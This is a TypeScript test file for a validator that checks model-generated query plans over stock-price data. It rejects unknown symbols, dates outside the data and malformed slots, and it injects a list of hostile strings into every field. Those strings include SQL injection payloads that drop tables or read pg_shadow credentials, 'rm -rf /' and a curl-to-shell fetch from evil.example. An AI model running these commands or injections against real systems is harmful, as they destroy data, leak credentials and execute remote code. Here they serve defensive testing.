// A model's plan is taken only when the schema, the data and its kind all allow it: each way a reply can be
// wrong is refused with the slot named, and SQL or shell in any string slot never gets through.

import { describe, expect, it } from 'vitest';
import { validatePlan, type ValidationData } from './validate.js';

const DATA: ValidationData = {
  symbols: ['AAPL', 'FXY', 'MSFT', 'TSLA'],
  sectors: ['Consumer Discretionary', 'ETF', 'Information Technology'],
  rowCap: 1000,
  data: { oldest: '2010-06-29', newest: '2017-11-10' },
};

const errorsOf = (reply: unknown): string[] => {
  const v = validatePlan(reply, DATA);
  return 'errors' in v ? v.errors : [];
};

/** Valid plans that between them set every string slot of a plan. */
const GOOD: Record<string, Record<string, unknown>> = {
  count: { kind: 'cross-stock-count', symbols: [], everyStock: true, sector: 'Information Technology', window: { from: '2016-01-01', to: '2016-12-31' }, measure: 'close', threshold: { op: '>', value: 100, percent: false }, stat: 'count' },
  overPeriods: { kind: 'period-over-period', symbols: ['AAPL'], window: { from: '2017-01-01', to: '2017-06-30' }, baseWindow: { from: '2016-01-01', to: '2016-06-30' }, stat: 'avg', measure: 'volume' },
  grouped: { kind: 'grouped-by-period', symbols: ['TSLA', 'MSFT'], window: { from: '2015-01-01', to: '2015-12-31' }, groupBy: 'month', stat: 'max', measure: 'high', order: 'asc', limit: 0 },
  minutes: { kind: 'minute-bars', symbols: ['FXY'], window: { day: '2017-11-10' }, clock: { from: '10:00', to: '10:15' }, order: 'asc', limit: 0 },
  extreme: { kind: 'biggest-move-day', symbols: ['TSLA'], window: { from: '2012-01-01', to: '2012-12-31', anchored: false }, measure: 'return', direction: 'down', limit: 3 },
  latest: { kind: 'latest-rows', symbols: ['AAPL'], window: { to: '2016-05-06', before: true }, limit: 5, order: 'desc' },
  tradingDays: { kind: 'daily-returns', symbols: ['MSFT'], window: { to: '2017-11-10', tradingDays: 10 } },
  crossover: { kind: 'crossover', symbols: ['AAPL'], window: { from: '2010-06-29', to: '2017-11-10' }, lengths: [50, 200], direction: 'up', limit: 1 },
};

/** Every path in `v` that holds a string, with a setter that replaces it. */
function stringPaths(v: unknown, path: string[] = []): string[][] {
  if (typeof v === 'string') return [path];
  if (Array.isArray(v)) return v.flatMap((x, i) => stringPaths(x, [...path, String(i)]));
  if (v && typeof v === 'object') return Object.entries(v).flatMap(([k, x]) => stringPaths(x, [...path, k]));
  return [];
}
function withValue(plan: unknown, path: string[], value: unknown): unknown {
  const copy = structuredClone(plan) as Record<string, unknown>;
  let at: Record<string, unknown> = copy;
  for (const k of path.slice(0, -1)) at = at[k] as Record<string, unknown>;
  at[path[path.length - 1] as string] = value;
  return copy;
}

const HOSTILE = ["close'; DROP TABLE prices; --", 'AAPL) UNION SELECT usename, passwd FROM pg_shadow --', '$(rm -rf /)', '`curl http://evil.example/x | sh`', '2016-01-01; DELETE FROM prices', 'pg_sleep(10)', '10:00 OR 1=1', 'close\u0000'];

describe('good plans', () => {
  it.each(Object.entries(GOOD))('%s is taken, nulls read as not given', (_name, plan) => {
    expect(errorsOf(plan)).toEqual([]);
    const withNulls = { ...plan, sector: plan.sector ?? null, direction: plan.direction ?? null, clock: plan.clock ?? null };
    const v = validatePlan(withNulls, DATA);
    expect('plan' in v && v.plan).toEqual(plan);
  });
});

describe('SQL and shell in every string slot', () => {
  const cases = Object.entries(GOOD).flatMap(([name, plan]) => stringPaths(plan).flatMap((path) => HOSTILE.map((h) => [`${name}: ${path.join('.')} = ${JSON.stringify(h)}`, plan, path, h] as const)));
  it('covers every string slot of a plan', () => {
    const slots = new Set(cases.map(([, , path]) => path.filter((p) => !/^\d+$/.test(p)).join('.')));
    expect([...slots].sort()).toEqual(['baseWindow.from', 'baseWindow.to', 'clock.from', 'clock.to', 'direction', 'groupBy', 'kind', 'measure', 'order', 'sector', 'stat', 'symbols', 'threshold.op', 'window.day', 'window.from', 'window.to'].sort());
  });
  it.each(cases)('%s is refused, naming the slot', (_name, plan, path, hostile) => {
    const errors = errorsOf(withValue(plan, path, hostile));
    expect(errors.length).toBeGreaterThan(0);
    const at = `plan${path.map((p) => (/^\d+$/.test(p) ? `[${p}]` : `.${p}`)).join('')}: `;
    expect(errors[0]?.startsWith(at), `${errors[0]} should start with ${at}`).toBe(true);
  });
  it('refuses keys the schema does not have (a "sql" or "restatement" of its own)', () => {
    expect(errorsOf({ ...GOOD.latest, sql: 'SELECT * FROM pg_shadow' })).toEqual(['plan: unknown key "sql"']);
    expect(errorsOf({ ...GOOD.latest, restatement: 'the newest rows' })).toEqual(['plan: unknown key "restatement"']);
    expect(errorsOf({ ...GOOD.latest, window: { to: '2016-05-06', label: "'; DROP TABLE prices" } })).toEqual(['plan.window: unknown key "label"']);
  });
});

describe('plans the data refuses', () => {
  it.each([
    ['an unknown symbol', { ...GOOD.latest, symbols: ['ZZZZ'] }, 'plan.symbols[0]: "ZZZZ" is not one of the allowed values'],
    ['a symbol in lower case', { ...GOOD.latest, symbols: ['aapl'] }, 'plan.symbols[0]: "aapl" is not one of the allowed values'],
    ['an unknown sector', { ...GOOD.count, sector: 'Crypto' }, 'plan.sector: "Crypto" is not one of the allowed values'],
    ['a date before the data', { ...GOOD.extreme, window: { from: '1990-01-01', to: '1990-12-31' } }, 'window.from: 1990-01-01 is outside the data (2010-06-29 … 2017-11-10)'],
    ['a date after the data', { ...GOOD.extreme, window: { from: '2030-01-01', to: '2030-12-31' } }, 'window.from: 2030-01-01 is outside the data (2010-06-29 … 2017-11-10)'],
    ['a window that misses the data', { ...GOOD.extreme, window: { from: '2009-07-01', to: '2010-06-01' } }, 'window: 2009-07-01 to 2010-06-01 is outside the data (2010-06-29 … 2017-11-10)'],
    ['a day outside the data', { ...GOOD.minutes, window: { day: '2017-11-11' } }, 'window.day: 2017-11-11 is outside the data (2010-06-29 … 2017-11-10)'],
    ['a date that does not exist', { ...GOOD.extreme, window: { from: '2016-02-30', to: '2016-03-31' } }, 'window.from: 2016-02-30 is not a date'],
    ['dates in the wrong order', { ...GOOD.extreme, window: { from: '2016-12-31', to: '2016-01-01' } }, 'window: from 2016-12-31 is after to 2016-01-01'],
    ['a huge limit', { ...GOOD.latest, limit: 1_000_000_000 }, 'plan.limit: 1000000000 is over 1000'],
    ['a negative limit', { ...GOOD.latest, limit: -1 }, 'plan.limit: -1 is below 0'],
    ['a fractional limit', { ...GOOD.latest, limit: 2.5 }, 'plan.limit: must be integer or null, got 2.5'],
    ['a limit as text', { ...GOOD.latest, limit: '10; DROP TABLE prices' }, 'plan.limit: must be integer or null, got "10; DROP TABLE prices"'],
    ['a moving average longer than the SQL computes', { ...GOOD.crossover, lengths: [50, 100000] }, 'plan.lengths[1]: 100000 is over 400'],
    ['a huge threshold', { ...GOOD.count, threshold: { op: '>', value: 1e300, percent: false } }, 'plan.threshold.value: 1e+300 is over 1000000000'],
    ['too many trading days', { ...GOOD.tradingDays, window: { to: '2017-11-10', tradingDays: 10_000_000 } }, 'plan.window.tradingDays: 10000000 is over 20000'],
    ['not an object', '{"kind":"change"}', 'plan: must be object, got "{\\"kind\\":\\"change\\"}"'],
    ['an array', [GOOD.latest], 'plan: must be object, got'],
    ['no kind', { symbols: ['AAPL'] }, 'plan: kind is missing'],
  ])('%s', (_name, reply, error) => {
    expect(errorsOf(reply)[0]).toContain(error);
  });
});

describe('plans their kind refuses (what the rules would never produce)', () => {
  it.each([
    ['an unknown kind', { ...GOOD.latest, kind: 'drop-table' }, 'plan.kind: "drop-table" is not one of the allowed values'],
    ['kind none: no question about the data', { kind: 'none', symbols: [] }, 'the model read no question about the data in it'],
    ['a slot the kind needs is missing', { kind: 'threshold-count', symbols: ['AAPL'], window: { from: '2016-01-01', to: '2016-12-31' }, measure: 'close' }, 'threshold: threshold-count needs it'],
    ['a slot the kind does not take', { ...GOOD.latest, groupBy: 'month' }, 'groupBy: latest-rows does not take it'],
    ['a measure the kind does not take', { ...GOOD.overPeriods, measure: 'return' }, 'measure: period-over-period takes close, open, high, low, volume, range, not return'],
    ['a stat the kind does not take', { ...GOOD.overPeriods, stat: 'vwap' }, 'stat: period-over-period takes avg, median, sum, max, min, not vwap'],
    ['too few symbols for a correlation', { kind: 'correlation', symbols: ['AAPL'], window: { from: '2016-01-01', to: '2016-12-31' } }, 'symbols: correlation names 2 symbols, got 1'],
    ['symbols in a question over every stock', { ...GOOD.count, symbols: ['AAPL'] }, 'symbols: cross-stock-count names 0 symbols, got 1'],
    ['a symbol named twice', { ...GOOD.grouped, symbols: ['TSLA', 'TSLA'] }, 'symbols: a symbol is named twice'],
    ['a crossover with its lengths the wrong way round', { ...GOOD.crossover, lengths: [200, 50] }, 'lengths: a crossover needs [short, long], short < long'],
    ['the same moving average twice', { kind: 'moving-average', symbols: ['AAPL'], window: { from: '2016-01-01', to: '2016-12-31' }, lengths: [20, 20] }, 'lengths: a length is given twice'],
    ['a moving average without its length', { kind: 'day-value', symbols: ['AAPL'], window: { day: '2016-06-01' }, measure: 'ma' }, 'lengths: measure ma needs one length'],
    ['clock times over more than a day', { ...GOOD.minutes, kind: 'vwap', window: { from: '2017-01-01', to: '2017-11-10' } }, 'clock: clock times are of one day (window.day)'],
    ['clock times the wrong way round', { ...GOOD.minutes, clock: { from: '15:00', to: '10:00' } }, 'clock: from 15:00 is after to 10:00'],
    ['a clock time that is not one', { ...GOOD.minutes, clock: { from: '25:00', to: '26:00' } }, 'plan.clock.from: "25:00" is not in the form'],
  ])('%s', (_name, reply, error) => {
    expect(errorsOf(reply)).toContainEqual(expect.stringContaining(error));
  });
});

describe('data with many symbols', () => {
  const many: ValidationData = { ...DATA, symbols: [...DATA.symbols, ...Array.from({ length: 300 }, (_, i) => `S${i}`)] };
  it('the schema gives the form of a symbol rather than a list past 250, and the data still decides', () => {
    expect(validatePlan({ ...GOOD.latest, symbols: ['S299'] }, many)).toHaveProperty('plan');
    expect(validatePlan({ ...GOOD.latest, symbols: ['ZZZZ'] }, many)).toEqual({ errors: ['symbols: no data for "ZZZZ"'] });
    expect((validatePlan({ ...GOOD.latest, symbols: ["AAPL' OR '1'='1"] }, many) as { errors: string[] }).errors[0]).toMatch(/^plan\.symbols\[0\]: .* is not in the form /);
  });
});
